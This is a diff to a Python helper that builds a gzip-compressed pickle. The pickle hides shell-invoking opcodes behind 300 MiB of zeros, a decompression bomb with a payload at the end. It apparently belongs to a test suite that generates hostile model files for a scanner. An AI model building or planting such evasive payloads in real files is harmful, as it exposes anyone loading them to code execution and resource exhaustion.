@@ -125,13 +125,18 @@ def stable_baselines(serialized: bytes) -> bytes:
 
 def _bomb() -> bytes:
     """A gzip file of 300 MiB of zeros with a payload behind them."""
-    out = io.BytesIO()
-    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9, mtime=0) as file:
-        file.write(b"\x80\x04\x8e" + struct.pack("<Q", 300 << 20))
-        for _ in range(300):
-            file.write(bytes(1 << 20))
-        file.write(b"0" + shell().opcodes + STOP)
-    return out.getvalue()
+    zeros = bytes(1 << 20)
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    head, tail = b"\x80\x04\x8e" + struct.pack("<Q", 300 << 20), b"0" + shell().opcodes + STOP
+    front = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
+    piece = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
+    end = packer.compress(tail) + packer.flush()
+    crc = zlib.crc32(head)
+    for _ in range(300):
+        crc = zlib.crc32(zeros, crc)
+    size = len(head) + (300 << 20) + len(tail)
+    trailer = struct.pack("<II", zlib.crc32(tail, crc), size)
+    return b"\x1f\x8b\x08\0\0\0\0\0\x02\xff" + front + piece * 300 + end + trailer
 
 
 def _gzip(data: bytes) -> bytes:
